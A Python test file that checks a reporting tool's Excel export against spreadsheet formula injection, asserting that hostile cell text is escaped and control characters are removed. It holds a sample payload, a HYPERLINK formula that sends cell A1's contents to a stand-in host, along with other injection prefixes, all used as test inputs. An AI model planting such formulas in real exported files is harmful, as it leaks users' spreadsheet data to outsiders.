"""Files Pejling writes are safe to open: a text never becomes a spreadsheet formula, and characters
the format cannot hold do not break the file."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pejling.plans.models import Indicator, Strategy
from pejling.reports.content import report_build
from pejling.reports.render import report_render
from pejling.texts.cells import cell_text
from pejling.tracking.services import measurement_record

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'


@pytest.mark.parametrize("text,safe", [
    (ATTACK, "'" + ATTACK), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Forløbet\x0b er i gang", "Forløbet er i gang"),
    ("7,2 %", "7,2 %"), ("", ""),
])
def test_a_cell_text_is_never_a_formula(text, safe):
    assert cell_text(text) == safe


@pytest.mark.usefixtures("demo")
@pytest.mark.parametrize("public", [False, True])
def test_a_hostile_comment_stays_text_in_the_excel_report(public):
    neet = Indicator.objects.get(strategy__slug="ringsted-uddannelse-til-alle-unge", key="r6-neet")
    measurement_record(indicator=neet, period="2020-11", value=Decimal("6.8"), comment=ATTACK + "\x0b")
    doc = report_build(strategy=Strategy.objects.get(slug="ringsted-uddannelse-til-alle-unge"),
                       as_of=date(2020, 12, 31), public=public)
    wb = load_workbook(io.BytesIO(report_render(doc, "xlsx")))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula anywhere
    comment = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert comment.value == "'" + ATTACK and comment.data_type == "s"
